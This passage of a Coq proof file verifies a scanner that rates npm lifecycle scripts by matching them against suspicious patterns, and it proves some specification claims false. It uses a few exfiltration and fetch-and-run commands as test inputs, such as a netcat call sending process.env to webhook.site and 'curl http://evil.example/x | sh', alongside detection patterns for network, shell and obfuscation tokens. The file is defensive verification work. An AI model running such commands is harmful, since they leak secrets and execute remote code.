  collect s ps acc = acc ++ collect s ps [].
Proof.
  revert acc. induction ps as [|p ps IH]; intros acc; simpl.
  - now rewrite app_nil_r.
  - destruct (String_match s p) as [found|].
    + rewrite IH. rewrite (IH [_]). now rewrite app_assoc.
    + apply IH.
Qed.

(** The global flag of every catalog pattern is set. *)
Lemma catalog_global p : In p suspiciousPatterns -> global p = true.
Proof.
  unfold suspiciousPatterns, networkPatterns, fileSystemPatterns,
    shellPatterns, environmentPatterns, tokenPatterns, obfuscationPatterns,
    cryptoPatterns, bunPatterns.
  simpl. intros H.
  repeat (destruct H as [<-|H]; [reflexivity|]). destruct H.
Qed.

(** [getContext] on an index that is [undefined] is the empty string. *)
Lemma getContext_undefined content radius :
  getContext content None radius = [].
Proof. reflexivity. Qed.

(** What the loop records for the patterns [ps]: one entry per pattern that
    matches, in the order of the patterns. *)
Lemma collect_entries s ps :
  (forall p, In p ps -> global p = true) ->
  collect s ps [] =
    flat_map (fun p =>
                match String_match s p with
                | Some found =>
                    [{| pattern_source := source p;
                        matched := first found;
                        context := [] |}]
                | None => []
                end) ps.
Proof.
  induction ps as [|p ps IH]; intros G; simpl; [reflexivity|].
  destruct (String_match s p) as [found|] eqn:E.
  - rewrite collect_app. simpl.
    rewrite (String_match_global_index s p found (G p (or_introl eq_refl)) E).
    rewrite getContext_undefined, IH; [reflexivity|].
    intros q Hq. apply G. now right.
  - apply IH. intros q Hq. apply G. now right.
Qed.

Lemma collect_sources s ps :
  map pattern_source (collect s ps []) = map source (filter (matchesIn s) ps).
Proof.
  induction ps as [|p ps IH]; simpl; [reflexivity|].
  unfold matchesIn at 1.
  destruct (String_match s p) as [found|].
  - rewrite collect_app, map_app. simpl. now rewrite IH.
  - apply IH.
Qed.

(** The patterns of the catalog are pairwise distinct. *)
Lemma catalog_distinct : NoDup (map source suspiciousPatterns).
Proof.
  vm_compute.
  repeat (apply NoDup_cons;
          [intros I; repeat (destruct I as [I|I]; [discriminate I|]); exact I|]).
  apply NoDup_nil.
Qed.

Lemma matches_count name s :
  List.length (matches (analyzeString name s))
  = List.length (filter (matchesIn s) suspiciousPatterns).
Proof.
  unfold analyzeString. cbn [matches].
  rewrite <- (length_map pattern_source), collect_sources.
  apply length_map.
Qed.

(** The matched text recorded for a catalog pattern is its first occurrence
    in the script: the script is [before ++ text ++ after], the pattern
    matches [text] there, and at no earlier position does it match. *)
Lemma matched_is_first_occurrence s p found :
  In p suspiciousPatterns -> String_match s p = Some found ->
  exists before after,
    s = before ++ first found ++ after
    /\ match_here p (first found ++ after) = Some (first found)
    /\ forall j, j < List.length before -> match_here p (skipn j s) = None.
Proof.
  intros Hp H.
  destruct (String_match_first s p found (catalog_global p Hp) H) as (i & E).
  apply exec_from_leftmost in E. destruct E as (j & -> & M & L).
  destruct (match_here_prefix _ _ _ M) as (rest & R).
  assert (Hj : j <= List.length s).
  { destruct (Nat.le_gt_cases j (List.length s)) as [|G]; [assumption|].
    rewrite skipn_all2 in R by lia. destruct (first found); [|discriminate].
    destruct rest; [|discriminate].
    rewrite skipn_all2 in M by lia.
    specialize (L (List.length s) G). rewrite skipn_all in L. congruence. }
  exists (firstn j s), rest. repeat split.
  - rewrite <- R. symmetry. apply firstn_skipn.
  - now rewrite <- R.
  - intros j' Hj'. apply L. rewrite length_firstn in Hj'. lia.
Qed.

(** Every context recorded is the empty string. *)
Lemma context_always_empty name s mt :
  In mt (matches (analyzeString name s)) -> context mt = [].
Proof.
  unfold analyzeString. cbn [matches].
  rewrite (collect_entries s suspiciousPatterns catalog_global).
  intros H. apply in_flat_map in H. destruct H as (p & _ & H).
  destruct (String_match s p); [|contradiction].
  destruct H as [<-|[]]. reflexivity.
Qed.

Lemma matchesIn_finds s p :
  global p = true -> matchesIn s p = true ->
  exists w y, s = w ++ y /\ match_here p y <> None.
Proof.
  unfold matchesIn, String_match. intros ->. cbn [match_all].
  destruct (exec_from p s 0) as [r|] eqn:E; [|discriminate].
  intros _. now apply (exec_from_finds p s 0 r).
Qed.

(** A catalog pattern whose matches all contain a match of the pattern of a
    test makes the test succeed. *)
Lemma test_of_matchesIn s p q :
  global p = true ->
  (forall x, match_here p x <> None ->
             exists w y, x = w ++ y /\ match_here q y <> None) ->
  matchesIn s p = true -> test q s = true.
Proof.
  intros G I M. destruct (matchesIn_finds s p G M) as (w & y & -> & H).
  destruct (I y H) as (w' & y' & -> & H'). rewrite app_assoc.
  now apply test_intro.
Qed.

Lemma networkTriggers_eq :
  networkTriggers
  = [ gi "fetch\s*\(" (Seq (Lit "fetch") open_paren);
      gi "axios\s*\(" (Seq (Lit "axios") open_paren);
      gi "https?:\/\/" http_scheme ].
Proof. reflexivity. Qed.

Lemma environmentTriggers_eq :
  environmentTriggers = [ gi "process\.env" (Lit "process.env") ].
Proof. reflexivity. Qed.

Lemma obfuscationTriggers_eq :
  obfuscationTriggers
  = [ gi "eval\s*\(" (Seq (Lit "eval") open_paren);
      gi "Buffer\.from.*base64"
         (Seq (Lit "Buffer.from") (Seq (Star Dot) (Lit "base64"))) ].
Proof. reflexivity. Qed.

(** Where the pattern matches, the test matches at the same place. *)
Ltac same_place :=
  let x := fresh "x" in
  let H := fresh "H" in
  intros x H; exists [], x; split; [reflexivity|];
  apply match_here_some; apply match_here_some in H;
  cbn [ignoreCase pattern gi i_only] in *.

Ltac by_inclusion M :=
  revert M; apply test_of_matchesIn; [reflexivity|].

Lemma network_trigger s :
  containsToken networkTriggers s = true -> hasNetwork s = true.
Proof.
  unfold containsToken. rewrite networkTriggers_eq, existsb_exists.
  intros (p & I & M). unfold hasNetwork.
  destruct I as [<-|[<-|[<-|[]]]]; by_inclusion M; same_place.
  - apply m_Alt_left. exact (m_Lit_prefix _ _ _ _ _ H).
  - apply m_Alt_right, m_Alt_left. exact (m_Lit_prefix _ _ _ _ _ H).
  - apply m_Alt_right, m_Alt_right. exact H.
Qed.

Lemma environment_trigger s :
  containsToken environmentTriggers s = true -> hasEnv s = true.
Proof.
  unfold containsToken. rewrite environmentTriggers_eq, existsb_exists.
  intros (p & I & M). unfold hasEnv.
  destruct I as [<-|[]]. by_inclusion M. same_place. exact H.
Qed.

Lemma shell_trigger s :
  containsToken shellPatterns s = true -> hasExec s = true.
Proof.
  unfold containsToken, shellPatterns. rewrite existsb_exists.
  intros (p & I & M). unfold hasExec.
  destruct I as [<-|[<-|[<-|[]]]]; by_inclusion M; same_place.
  - apply m_Alt_left. exact (m_Lit_prefix _ _ _ _ _ H).
  - apply m_Alt_right, m_Alt_left. exact (m_Lit_prefix _ _ _ _ _ H).
  - apply m_Alt_right, m_Alt_right. exact H.
Qed.

Lemma obfuscation_trigger s :
  containsToken obfuscationTriggers s = true -> hasObfuscation s = true.
Proof.
  unfold containsToken. rewrite obfuscationTriggers_eq, existsb_exists.
  intros (p & I & M). unfold hasObfuscation.
  destruct I as [<-|[<-|[]]]; by_inclusion M.
  - same_place. apply m_Alt_left. exact (m_Lit_prefix _ _ _ _ _ H).
  - intros x H. apply match_here_some in H. cbn [ignoreCase pattern gi] in H.
    apply m_reaches in H. destruct H as (w & y & -> & H).
    exists w, y. split; [reflexivity|]. apply match_here_some.
    cbn [ignoreCase pattern i_only]. now apply m_Alt_right, m_Alt_right.
Qed.

(** The catalog tokens that make the combination tests hold. *)
Lemma triggers_combine s : combinedByTriggers s = true -> combined s = true.
Proof.
  unfold combinedByTriggers, combined. rewrite !orb_true_iff, !andb_true_iff.
  intros [[N E]|[X O]]; [left|right]; split;
    auto using network_trigger, environment_trigger, shell_trigger,
      obfuscation_trigger.
Qed.

(** ** The script analyzer *)

Lemma countLevel_not_SAFE n : countLevel n <> SAFE.
Proof.
  unfold countLevel.
  destruct (5 <=? n); [discriminate|].
  destruct (3 <=? n); [discriminate|].
  destruct (1 <=? n); discriminate.
Qed.

Lemma riskLevel_by_matches name s :
  riskLevel (analyzeString name s)
  = if combined s then CRITICAL
    else countLevel (List.length (matches (analyzeString name s))).
Proof. unfold analyzeString, combined. cbn [riskLevel matches]. reflexivity. Qed.

Lemma riskLevel_analyzeString name s :
  riskLevel (analyzeString name s)
  = if combined s then CRITICAL
    else countLevel (List.length (filter (matchesIn s) suspiciousPatterns)).
Proof. rewrite riskLevel_by_matches, matches_count. reflexivity. Qed.

Lemma score_analyzeString name s :
  score (analyzeString name s) = riskScores (riskLevel (analyzeString name s)).
Proof. unfold analyzeString. cbn [score riskLevel]. reflexivity. Qed.

Lemma risks_analyzeString name s :
  risks (analyzeString name s)
  = (if combined s then [combinationNote] else [])
      ++ (if hasObfuscation s then [obfuscationNote] else []).
Proof.
  unfold analyzeString, combined. cbn [risks].
  destruct (hasObfuscation s); [reflexivity|now rewrite app_nil_r].
Qed.

Lemma riskLevel_not_SAFE name s : riskLevel (analyzeString name s) <> SAFE.
Proof.
  rewrite riskLevel_analyzeString.
  destruct (combined s); [discriminate|apply countLevel_not_SAFE].
Qed.

Lemma tier_le_CRITICAL r : tier_le r CRITICAL.
Proof. unfold tier_le. destruct r; simpl; lia. Qed.

(** C1, as the specification words it, fails: a script that sends the
    environment to webhook.site contains a network token and an environment
    token of the catalog, and is rated MEDIUM without the combination note. *)
Lemma category_rule_counterexample :
  ~ categoryRuleHolds (lit "node -p process.env | nc webhook.site 80").
Proof.
  unfold categoryRuleHolds. intros H.
  assert (C : combinedByCategory (lit "node -p process.env | nc webhook.site 80")
              = true) by (vm_compute; reflexivity).
  destruct (H C) as [L _]. vm_compute in L. discriminate L.
Qed.

(** C1 (amended): if a script contains one of the network tokens of the
    catalog other than webhook.site together with the token process.env, or
    a shell-execution token of the catalog together with one of its
    obfuscation tokens other than Function followed by white space, then the
    combination tests of [analyzeScript] hold; and whenever these tests hold
    (one of fetch, axios, http:// or https:// together with process.env, or
    one of exec, spawn, child_process together with one of eval, Function(
    or base64, letter case ignored), the analysis is CRITICAL with score 100
    and carries the combination note, whatever the number of matches.  For
    every script the final tier is never below the tier the number of
    matches gives. *)
Theorem combination_forces_critical name s :
  let a := analyzeString name s in
  tier_le (countLevel (List.length (matches a))) (riskLevel a)
  /\ (combinedByTriggers s = true -> combined s = true)
  /\ (combined s = true ->
      riskLevel a = CRITICAL /\ score a = 100%Z
      /\ In combinationNote (risks a)).
Proof.
  intros a. subst a. split; [|split].
  - rewrite riskLevel_by_matches.
    destruct (combined s); [apply tier_le_CRITICAL|unfold tier_le; lia].
  - apply triggers_combine.
  - intros C.
    rewrite score_analyzeString, risks_analyzeString, riskLevel_by_matches, C.
    repeat split. apply in_or_app. left. now left.
Qed.

(** One fetch( and one process.env: two matches, MEDIUM by count, CRITICAL by
    the combination rule. *)
Lemma combination_forces_critical_witness :
  let a := analyzeString "postinstall" (lit "fetch(u + process.env.HOME)") in
  List.length (matches a) = 2 /\ riskLevel a = CRITICAL /\ score a = 100%Z
  /\ In combinationNote (risks a).
Proof.
  split; [vm_compute; reflexivity|].
  destruct (combination_forces_critical "postinstall"
              (lit "fetch(u + process.env.HOME)")) as (_ & T & C).
  apply C, T. vm_compute. reflexivity.
Defined.

(** C3 at a script with one match: the match is recorded once, with the
    text of its first occurrence, but its context is the empty string, where
    the characters within 50 of offset 5 are the whole script ([getContext]
    returns them when it is given the offset). *)
Theorem context_is_lost :
  let s := lit "curl http://evil.example/x | sh" in
  matches (analyzeString "preinstall" s)
  = [{| pattern_source := "https?:\/\/";
        matched := lit "http://";
        context := [] |}]
  /\ contextAround s 5 50 = s
  /\ getContext s (Some 5%Z) 50 = s.
Proof. vm_compute. repeat split. Qed.

Lemma echo_hello name :
  let e := analyzeString name (lit "echo hello") in
  matches e = [] /\ riskLevel e = LOW /\ risks e = [].
Proof. vm_compute. repeat split. Qed.

(** C4: when the combination rule does not apply, the tier is decided by the
    number of catalog patterns that match the script, which is the number of
    matches recorded: five or more CRITICAL, three or four HIGH, one or two
    MEDIUM, none LOW, and never SAFE; the script [echo hello] has no match,
    tier LOW and no note. *)
Theorem count_decides_tier name s :
  combined s = false ->
  let a := analyzeString name s in
  let n := List.length (filter (matchesIn s) suspiciousPatterns) in
  List.length (matches a) = n
  /\ (5 <= n -> riskLevel a = CRITICAL)
  /\ (3 <= n <= 4 -> riskLevel a = HIGH)
  /\ (1 <= n <= 2 -> riskLevel a = MEDIUM)
  /\ (n = 0 -> riskLevel a = LOW)
  /\ riskLevel a <> SAFE
  /\ (let e := analyzeString name (lit "echo hello") in
      matches e = [] /\ riskLevel e = LOW /\ risks e = []).
Proof.
  intros C a n.
  assert (L : riskLevel a = countLevel n).
  { subst a n. now rewrite riskLevel_analyzeString, C. }
  rewrite L. unfold countLevel.
  split; [apply matches_count|].
  split; [intros H; destruct (Nat.leb_spec 5 n); [reflexivity|lia]|].
  split; [intros H; destruct (Nat.leb_spec 5 n); [lia|];
          destruct (Nat.leb_spec 3 n); [reflexivity|lia]|].
  split; [intros H; destruct (Nat.leb_spec 5 n); [lia|];
          destruct (Nat.leb_spec 3 n); [lia|];
          destruct (Nat.leb_spec 1 n); [reflexivity|lia]|].
  split; [intros H; rewrite H; reflexivity|].
  split; [apply countLevel_not_SAFE|].
  apply echo_hello.
Qed.

Lemma count_decides_tier_witness :
  let a := analyzeString "install" (lit "echo hello") in
  List.length (matches a) = 0 /\ riskLevel a = LOW /\ riskLevel a <> SAFE.
Proof.
  assert (C : combined (lit "echo hello") = false) by (vm_compute; reflexivity).
  pose proof (count_decides_tier "install" (lit "echo hello") C) as H.
  cbv zeta in H. destruct H as (L & _ & _ & _ & Z & S & _).
  assert (N0 : List.length (filter (matchesIn (lit "echo hello"))
                              suspiciousPatterns) = 0)
    by (vm_compute; reflexivity).
  cbv zeta. split; [now rewrite L|]. split; [exact (Z N0)|exact S].
Defined.

(** ** The package scan *)

Lemma analyzeScript_inv name content a :
  analyzeScript name content = Ok a ->
  exists s, content = JString s /\ a = analyzeString name s.
Proof.
  destruct content; try discriminate. intros [= <-]. now eexists.
Qed.

Lemma analyzeScript_wellScored name content a :
  analyzeScript name content = Ok a -> wellScored a.
Proof.
  intros H. apply analyzeScript_inv in H. destruct H as (s & _ & ->).
  split; [apply score_analyzeString|apply riskLevel_not_SAFE].
Qed.

Lemma set_property_fresh {A} (o : list (string * A)) key v :
  ~ In key (map fst o) -> set_property o key v = o ++ [(key, v)].
Proof.
  induction o as [|[k old] o IH]; intros F; simpl; [reflexivity|].
  destruct (String.eqb_spec k key) as [->|_].
  - exfalso. apply F. now left.
  - rewrite IH; [reflexivity|]. intros I. apply F. now right.
Qed.

Lemma matchTotal_app o1 o2 :
  matchTotal (o1 ++ o2) = (matchTotal o1 + matchTotal o2)%Z.
Proof.
  induction o1 as [|[k a] o1 IH]; simpl; [reflexivity|]. rewrite IH. lia.
Qed.

Lemma scanScripts_consistent sc : forall names results results',
  scanScripts sc names results = Ok results' ->
  NoDup names ->
  (forall k, In k names -> ~ In k (map fst (scripts results))) ->
  consistent results -> consistent results'.
Proof.
  induction names as [|name names IH]; intros results results' H ND F C;
    cbn [scanScripts] in H.
  - now injection H as <-.
  - inversion ND as [|? ? Hn ND']; subst.
    assert (F' : forall k, In k names -> ~ In k (map fst (scripts results)))
      by (intros k Hk; apply F; now right).
    destruct (get sc name) as [entry|]; [|discriminate]. cbn [bind] in H.
    destruct (truthy entry); [|now apply (IH _ _ H)].
    destruct entry as [content|]; [|now apply (IH _ _ H)].
    destruct (analyzeScript name content) as [a|] eqn:E; [|discriminate].
    cbn [bind] in H. apply (IH _ _ H ND'); clear IH H.
    + intros k Hk. cbn [record_script scripts].
      rewrite set_property_fresh by (apply F; now left).
      rewrite map_app, in_app_iff. intros [I|[<-|[]]].
      * now apply (F' k).
      * now apply Hn.
    + destruct C as [T W]. unfold consistent. cbn [record_script scripts totalMatches].
      rewrite set_property_fresh by (apply F; now left).
      split.
      * rewrite matchTotal_app, T. simpl. lia.
      * unfold Object_values. rewrite map_app. apply Forall_app. split; [exact W|].
        constructor; [|constructor]. now apply (analyzeScript_wellScored _ _ _ E).
Qed.

Lemma dangerousScripts_NoDup : NoDup dangerousScripts.
Proof.
  unfold dangerousScripts.
  repeat (constructor; [simpl; intuition discriminate|]). constructor.
Qed.

(** What [scanPackageJson] returns: the loop's record with the two final
    assignments made. *)
Lemma scanPackageJson_result fs p r :
  scanPackageJson fs p = Ok r ->
  consistent r
  /\ overallRisk r = calculateOverallRisk r
  /\ findings r = generateFindings r.
Proof.
  unfold scanPackageJson.
  destruct (existsSync fs p); [|discriminate]. cbn [negb].
  destruct (readFileSync fs p) as [content|]; [|discriminate]. cbn [bind].
  destruct (JSON_parse content) as [packageJson|]; [|discriminate]. cbn [bind].
  destruct (get (Some packageJson) "name") as [name|]; [|discriminate].
  destruct (get (Some packageJson) "version") as [version|]; [|discriminate].
  destruct (get (Some packageJson) "scripts") as [sc|]; [|discriminate].
  cbn [bind].
  match goal with
  | |- bind ?c _ = _ -> _ => destruct c as [res|] eqn:E; [|discriminate]
  end.
  cbn [bind]. intros [= <-].
  assert (C : consistent res).
  { destruct (truthy sc).
    - apply (scanScripts_consistent _ _ _ _ E dangerousScripts_NoDup).
      + intros k _ [].
      + split; [reflexivity|constructor].
    - injection E as <-. split; [reflexivity|constructor]. }
  repeat split; apply C.
Qed.

(** C5: in every result [scanPackageJson] returns, [totalMatches] is the sum
    of the lengths of the match lists of the analyses recorded in
    [scripts]. *)
Theorem totalMatches_is_sum fs p r :
  scanPackageJson fs p = Ok r ->
  totalMatches r = matchTotal (scripts r).
Proof.
  intros H. apply scanPackageJson_result in H. apply H.
Qed.

Lemma totalMatches_is_sum_witness :
  match scanPackageJson mixedTree stealerPath with
  | Ok r =>
      List.length (scripts r) = 2 /\ totalMatches r = 3%Z
      /\ totalMatches r = matchTotal (scripts r)
  | Throw _ => False
  end.
Proof.
  destruct (scanPackageJson mixedTree stealerPath) as [r|e] eqn:E.
  - split; [|split].
    + vm_compute in E. injection E as <-. reflexivity.
    + vm_compute in E. injection E as <-. reflexivity.
    + exact (totalMatches_is_sum mixedTree stealerPath r E).
  - vm_compute in E. discriminate E.
Defined.

(** [Math.max] of integers is their maximum. *)
Lemma fold_max2_Num zs : forall z,
  fold_left Number.max2 (map Number.Num zs) (Number.Num z)
  = Number.Num (fold_left Z.max zs z).
Proof.
  induction zs as [|y zs IH]; intros z; simpl; [reflexivity|apply IH].
Qed.

Lemma fold_Zmax_bounds zs : forall z,
  let mx := fold_left Z.max zs z in
  (z <= mx)%Z /\ (forall y, In y zs -> (y <= mx)%Z) /\ (mx = z \/ In mx zs).
Proof.
  induction zs as [|y zs IH]; intros z; simpl.
  - repeat split; [lia|intros y []|now left].
  - destruct (IH (Z.max z y)) as (B & A & M). repeat split.
    + lia.
    + intros y' [<-|I]; [lia|now apply A].
    + destruct M as [M|M]; [|now right; right].
      rewrite M. destruct (Z.max_spec z y) as [[_ ->]|[_ ->]]; [right|]; now left.
Qed.

Lemma Math_max_scores a l :
  exists top,
    In top (a :: l)
    /\ Number.Math_max (map (fun s => Number.Num (score s)) (a :: l))
       = Number.Num (score top)
    /\ forall b, In b (a :: l) -> (score b <= score top)%Z.
Proof.
  unfold Number.Math_max. cbn [map fold_left Number.max2].
  rewrite <- (map_map score Number.Num), fold_max2_Num.
  destruct (fold_Zmax_bounds (map score l) (score a)) as (B & A & M).
  cbv zeta in *. set (mx := fold_left Z.max (map score l) (score a)) in *.
  destruct M as [M|M].
  - exists a. rewrite M. repeat split; [now left|].
    intros b [<-|I]; [lia|]. rewrite <- M. apply A. now apply in_map.
  - apply in_map_iff in M. destruct M as (top & M & I).
    exists top. rewrite M. repeat split; [now right|].
    intros b [<-|I']; [lia|]. apply A. now apply in_map.
Qed.

Lemma rank_by_score a b :
  wellScored a -> wellScored b -> (score a <= score b)%Z ->
  tier_le (riskLevel a) (riskLevel b).
Proof.
  intros [Sa _] [Sb _]. rewrite Sa, Sb. unfold tier_le.
  destruct (riskLevel a), (riskLevel b); simpl; lia.
Qed.

(** On recorded analyses, [calculateOverallRisk] is the tier of the analysis
    with the highest score. *)
Lemma calculateOverallRisk_top results :
  Forall wellScored (Object_values (scripts results)) ->
  scripts results <> [] ->
  exists name top,
    In (name, top) (scripts results)
    /\ calculateOverallRisk results = riskLevel top
    /\ forall k a, In (k, a) (scripts results) ->
         tier_le (riskLevel a) (riskLevel top).
Proof.
  intros W NE. unfold calculateOverallRisk.
  remember (Object_values (scripts results)) as l eqn:El.
  destruct l as [|a l].
  { destruct (scripts results); [now contradiction NE|discriminate]. }
  cbn [List.length Nat.eqb].
  destruct (Math_max_scores a l) as (top & I & -> & B).
  assert (Wt : wellScored top) by (rewrite Forall_forall in W; now apply W).
  rewrite El in I. unfold Object_values in I. apply in_map_iff in I.
  destruct I as ([name top'] & E & I). simpl in E. subst top'.
  exists name, top. split; [exact I|]. split.
  - destruct Wt as [S _]. rewrite S.
    destruct (riskLevel top); reflexivity.
  - intros k b Ib. apply rank_by_score; try assumption.
    + rewrite Forall_forall in W. apply W. rewrite El.
      unfold Object_values. apply in_map_iff. now exists (k, b).
    + apply B. rewrite El. unfold Object_values. apply in_map_iff.
      now exists (k, b).
Qed.

(** C2: in every result [scanPackageJson] returns, [overallRisk] is the
    highest tier among the recorded analyses (in the order CRITICAL > HIGH >
    MEDIUM > LOW > SAFE): no analysis has a higher tier and, when there is
    one, some analysis has exactly that tier; and [overallRisk] is SAFE if
    and only if no lifecycle script was recorded. *)
Theorem overallRisk_is_maximum fs p r :
  scanPackageJson fs p = Ok r ->
  (forall k a, In (k, a) (scripts r) -> tier_le (riskLevel a) (overallRisk r))
  /\ (scripts r <> [] ->
      exists k a, In (k, a) (scripts r) /\ riskLevel a = overallRisk r)
  /\ (overallRisk r = SAFE <-> scripts r = []).
Proof.
  intros H. apply scanPackageJson_result in H.
  destruct H as ((_ & W) & O & _).
  assert (D : scripts r = [] \/ scripts r <> [])
    by (destruct (scripts r); [now left|right; discriminate]).
  destruct D as [Es|NE].
  - repeat split.
    + rewrite Es. intros k a [].
    + intros NE. now contradiction NE.
    + intros _. exact Es.
    + intros _. rewrite O. unfold calculateOverallRisk. now rewrite Es.
  - destruct (calculateOverallRisk_top r W NE) as (name & top & I & T & B).
    rewrite O, T. repeat split.
    + exact B.
    + intros _. now exists name, top.
    + intros S. exfalso. rewrite Forall_forall in W.
      assert (Wt : wellScored top).
      { apply W. unfold Object_values. apply in_map_iff.
        now exists (name, top). }
      now apply (proj2 Wt).
    + intros Es. now contradiction NE.
Qed.

Lemma overallRisk_is_maximum_witness :
  match scanPackageJson mixedTree stealerPath with
  | Ok r =>
      map (fun e => riskLevel (snd e)) (scripts r) = [LOW; CRITICAL]
      /\ overallRisk r = CRITICAL
      /\ (overallRisk r = SAFE <-> scripts r = [])
  | Throw _ => False
  end.
Proof.
  destruct (scanPackageJson mixedTree stealerPath) as [r|e] eqn:E.
  - split; [|split].
    + vm_compute in E. injection E as <-. reflexivity.
    + vm_compute in E. injection E as <-. reflexivity.
    + exact (proj2 (proj2 (overallRisk_is_maximum mixedTree stealerPath r E))).
  - vm_compute in E. discriminate E.
Defined.

(** ** Errors of the single-file scan *)

Lemma analyzeScript_nonString name v :
  truthyNonString v = true -> analyzeScript name v = Throw TypeError.
Proof.
  unfold truthyNonString. intros H. apply andb_prop in H.
  destruct H as [_ H]. destruct v; try reflexivity. discriminate H.
Qed.

(** The loop over the lifecycle keys throws only [TypeError]. *)
Lemma scanScripts_error sc : forall names results e,
  scanScripts sc names results = Throw e -> e = TypeError.
Proof.
  induction names as [|name names IH]; intros results e H;
    cbn [scanScripts] in H; [discriminate|].
  destruct sc as [[| | | | |entries]|]; cbn [get bind] in H;
    try (injection H as <-; reflexivity);
    try (cbn [truthy] in H; now apply IH in H).
  destruct (truthy (own_property entries name)); [|now apply IH in H].
  destruct (own_property entries name) as [content|]; [|now apply IH in H].
  destruct content; cbn [analyzeScript bind] in H;
    try (injection H as <-; reflexivity).
  now apply IH in H.
Qed.

(** A lifecycle key bound to a truthy value that is not a string makes the
    loop throw. *)
Lemma scanScripts_nonString entries key v : forall names results,
  In key names ->
  own_property entries key = Some v ->
  truthyNonString v = true ->
  scanScripts (Some (JObject entries)) names results = Throw TypeError.
Proof.
  intros names results I P T. revert results.
  induction names as [|name names IH]; intros results; [destruct I|].
  cbn [scanScripts get bind].
  destruct (string_dec name key) as [->|N].
  - rewrite P. pose proof T as T'. unfold truthyNonString in T'.
    apply andb_prop in T'. destruct T' as [-> _].
    now rewrite (analyzeScript_nonString key v T).
  - destruct I as [E|I]; [now contradiction N|].
    destruct (truthy (own_property entries name)); [|now apply IH].
    destruct (own_property entries name) as [content|]; [|now apply IH].
    destruct (analyzeScript name content) as [a|e] eqn:A; cbn [bind].
    + now apply IH.
    + destruct content; try discriminate A; now injection A as <-.
Qed.

(** The loop returns exactly when every lifecycle key is bound to a string
    or to something falsy. *)
Lemma scanScripts_returns entries : forall names results,
  (exists results', scanScripts (Some (JObject entries)) names results
                    = Ok results')
  <-> forallb (fun key => stringOrFalsy (own_property entries key)) names = true.
Proof.
  induction names as [|name names IH]; intros results; cbn [forallb].
  - split; [reflexivity|]. intros _. now exists results.
  - cbn [scanScripts get bind]. rewrite andb_true_iff.
    unfold stringOrFalsy at 1.
    destruct (own_property entries name) as [content|] eqn:P.
    + destruct content; cbn [truthy analyzeScript bind negb];
        try (rewrite <- (IH results); tauto);
        try (split; [intros (r & H); discriminate H|intros (H & _); discriminate H]).
      * destruct b; cbn [negb].
        -- split; [intros (r & H); discriminate H|intros (H & _); discriminate H].
        -- rewrite <- (IH results). tauto.
      * destruct (PrimFloat.is_zero x || PrimFloat.is_nan x); cbn [negb].
        -- rewrite <- (IH results). tauto.
        -- split; [intros (r & H); discriminate H|intros (H & _); discriminate H].
      * destruct s as [|c s].
        -- rewrite <- (IH results). tauto.
        -- rewrite <- (IH (record_script results name
                             (analyzeString name (c :: s)))).
           tauto.
    + cbn [truthy negb]. rewrite <- (IH results). tauto.
Qed.

Lemma bind_returns {A B} (c : result A) (f : A -> B) :
  (exists b, bind c (fun x => Ok (f x)) = Ok b) <-> (exists a, c = Ok a).
Proof.
  destruct c as [a|e]; cbn [bind].
  - split; intros _; eexists; reflexivity.
  - split; intros (x & H); discriminate H.
Qed.

(** On [scripts] that is truthy but no object every lifecycle key reads as
    [undefined], and the loop records nothing. *)
Lemma scanScripts_no_keys v names results :
  match v with JNull | JObject _ => False | _ => True end ->
  scanScripts (Some v) names results = Ok results.
Proof.
  intros H. induction names as [|name names IH]; [reflexivity|].
  destruct v; try contradiction; cbn [scanScripts get bind truthy]; exact IH.
Qed.

(** The single-file scan returns exactly for a readable file whose text is
    a JSON document that is scannable. *)
Lemma scanPackageJson_returns fs p :
  (exists r, scanPackageJson fs p = Ok r)
  <-> (exists v, fs p = Some (RegularFile true (Json v)) /\ scannable v = true).
Proof.
  unfold scanPackageJson, existsSync, readFileSync.
  destruct (fs p) as [[[|] [v|]|listing]|]; cbn [negb bind JSON_parse];
    try (split; [intros (r & H); discriminate H
                |intros (v' & H & _); discriminate H]).
  assert (S : (exists v', Some (RegularFile true (Json v))
                          = Some (RegularFile true (Json v'))
                          /\ scannable v' = true)
              <-> scannable v = true).
  { split; [intros (v' & [= <-] & H); exact H|intros H; now exists v]. }
  rewrite S. clear S.
  destruct v as [| | | | |props]; cbn [get bind truthy scannable];
    try (split; [reflexivity|intros _; eexists; reflexivity]).
  - split; [intros (r & H); discriminate H|discriminate].
  - rewrite bind_returns.
    destruct (truthy (own_property props "scripts")) eqn:T; cbn [negb orb].
    + destruct (own_property props "scripts") as [sc|]; [|discriminate T].
      destruct sc as [| | | | |entries];
        try (rewrite scanScripts_no_keys by exact I;
             split; [reflexivity|intros _; eexists; reflexivity]).
      * discriminate T.
      * apply scanScripts_returns.
    + split; [reflexivity|intros _; eexists; reflexivity].
Qed.

(** The error the single-file scan throws, by what is at the path. *)
Lemma scanPackageJson_throws fs p e :
  scanPackageJson fs p = Throw e ->
  match fs p with
  | None => e = NotFound p
  | Some (Directory _) => e = EISDIR
  | Some (RegularFile false _) => e = EACCES
  | Some (RegularFile true NotJson) => e = SyntaxError
  | Some (RegularFile true (Json _)) => e = TypeError
  end.
Proof.
  unfold scanPackageJson, existsSync, readFileSync.
  destruct (fs p) as [[[|] [v|]|listing]|]; cbn [negb bind JSON_parse];
    try (intros [= <-]; reflexivity).
  destruct (get (Some v) "name") as [name|e1] eqn:G1; cbn [bind].
  2:{ destruct v; try discriminate G1. injection G1 as <-. now intros [= <-]. }
  destruct (get (Some v) "version") as [version|e2] eqn:G2; cbn [bind].
  2:{ destruct v; discriminate. }
  destruct (get (Some v) "scripts") as [sc|e3] eqn:G3; cbn [bind].
  2:{ destruct v; discriminate. }
  destruct (truthy sc); cbn [bind].
  - match goal with
    | |- bind ?c _ = _ -> _ => destruct c as [res|e'] eqn:E
    end; cbn [bind]; [discriminate|].
    intros [= <-]. now apply scanScripts_error in E.
  - discriminate.
Qed.

(** C9, as the specification words it, fails: a metadata file that exists
    and is well-formed JSON, but binds [install] to an array, makes the
    single-file scan throw a [TypeError] instead of returning a result. *)
Lemma single_scan_counterexample :
  ~ singleScanAsStated arrayScript ["package.json"%string].
Proof.
  intros (_ & _ & H).
  destruct H as (r & H).
  - reflexivity.
  - eexists. eexists. reflexivity.
  - vm_compute in H. discriminate H.
Qed.

(** C9 (amended): the single-file scan throws its not-found error exactly
    when nothing is at the path; it throws the [SyntaxError] of [JSON.parse]
    exactly when the path is a readable file whose text is not JSON; it
    returns a result exactly when the path is a readable file whose text is a
    JSON document other than [null] whose [scripts], when truthy, binds every
    lifecycle key to a string or to a falsy value; it throws a [TypeError]
    exactly on a readable file with any other JSON document; and it throws
